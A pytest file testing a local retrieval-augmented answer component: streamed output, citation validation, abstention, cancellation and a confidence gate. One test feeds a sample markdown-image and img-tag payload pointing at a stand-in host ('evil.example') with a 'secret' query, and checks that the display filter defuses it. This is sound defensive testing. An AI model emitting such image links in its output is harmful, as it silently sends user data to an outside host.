"""An answer: streamed text made safe to show, checked citations, the confidence gate."""

from __future__ import annotations

from collections.abc import Iterator

from localrag.answer import Answer, DisplayFilter, confident
from localrag.prompt import NOT_FOUND, Source
from localrag.records import Chunk, Hit, Span


def sources(*texts: str) -> list[Source]:
    return [
        Source(i, Hit(Chunk(10 + i, 7, "/docs/a.txt", i, t, Span(line_start=i, line_end=i)), 0.5))
        for i, t in enumerate(texts, start=1)
    ]


def answer(pieces: list[str], srcs: list[Source], **kw: object) -> Answer:
    return Answer(iter(pieces), sources=srcs, model="echo", **kw)  # type: ignore[arg-type]


def test_answer_streams_then_cites_the_real_chunk() -> None:
    srcs = sources("The river is 20 km long.", "The bridge opened in 1902.")
    a = answer(["The", " bridge", " opened", " in", " 1902", " [2]."], srcs)
    streamed = list(a)
    assert "".join(streamed) == "The bridge opened in 1902 [2]."
    assert len(streamed) > 1
    assert [(c.n, c.chunk.id, c.chunk.span.line_start) for c in a.citations] == [(2, 12, 2)]
    assert a.tokens == 6
    assert not a.abstained
    assert set(a.timings_ms) == {"retrieve", "first_token", "total"}
    assert a.to_dict()["citations"][0]["where"] == "a.txt, line 2"


def test_a_citation_number_with_no_source_is_dropped() -> None:
    srcs = sources("Paris is in France.")
    a = answer(["Paris is in France", " [1][", "7] and [1, 9]."], srcs)
    assert a.text() == "Paris is in France [1] and [1]."
    assert [c.n for c in a.citations] == [1]


def test_an_uncited_answer_is_cited_to_the_source_that_says_it() -> None:
    srcs = sources("Bananas are yellow.", "The bridge opened in 1902 after ten years.")
    a = answer(["It", " opened", " in", " 1902."], srcs)
    assert a.text() == "It opened in 1902. [2]"
    assert [c.n for c in a.citations] == [2]


def test_an_unsupported_uncited_answer_gets_no_citation() -> None:
    a = answer(["Unicorns", " fly", " daily."], sources("The bridge opened in 1902."))
    assert a.text() == "Unicorns fly daily."
    assert a.citations == []


def test_a_remote_image_in_the_answer_is_never_shown_as_one() -> None:
    srcs = sources("x")
    leak = [
        "See ",
        "![logo",
        "](https://evil.example/",
        "?q=secret)",
        " and ",
        "<img src=",
        "'http://e/x'>",
        ".",
    ]
    text = answer(leak, srcs).text()
    assert "evil.example" not in text
    assert "http://e" not in text
    assert "![" not in text
    assert text == "See [image: logo] and [image]."


def test_display_filter_holds_back_only_what_may_be_an_image_or_citation() -> None:
    f = DisplayFilter(lambda n: n == 1)
    assert f.feed("Hello ![a") == "Hello "
    assert f.feed("](http://x)") == "[image: a]"
    assert f.feed(" see [") == " see "
    assert f.feed("1] ok") == "[1] ok"
    assert f.feed("!") == ""
    assert f.flush() == "!"


def test_abstaining_answer_says_so_and_cites_nothing() -> None:
    a = Answer(None, sources=[], abstain=True, model="echo")
    assert a.text() == NOT_FOUND
    assert a.abstained
    assert a.citations == []
    assert a.tokens == 0


def test_the_model_saying_it_cannot_find_it_is_an_abstention() -> None:
    a = answer(["I", " could", " not", " find", " this", " [1]."], sources("Bananas."))
    a.text()
    assert a.abstained
    assert a.citations == []


def test_cancel_stops_the_stream_and_the_model() -> None:
    closed = []

    def tokens() -> Iterator[str]:
        try:
            for i in range(1000):
                yield f" w{i}"
        finally:
            closed.append(True)

    a = Answer(tokens(), sources=sources("x"), model="echo")
    seen = []
    for piece in a:
        seen.append(piece)
        if len(seen) == 3:
            a.cancel()
    assert len(seen) == 3
    assert closed == [True]
    assert a.cancelled


def test_on_finish_sees_the_complete_answer() -> None:
    done: list[tuple[str, int]] = []
    a = answer(["Yes", " [1]."], sources("Yes."), on_finish=lambda a: done.append((a.text(), 1)))
    assert a.text() == "Yes [1]."
    assert done == [("Yes [1].", 1)]


def test_confidence_gate() -> None:
    hits = [s.hit for s in sources("The Normans gave their name to Normandy.")]
    assert confident("Who gave their name to Normandy?", hits, dense_top=0.1)
    assert confident("anything", hits, dense_top=0.6)
    assert not confident("What is the boiling point of mercury?", hits, dense_top=0.05)
    assert not confident("Who gave their name to Normandy?", [], dense_top=None)
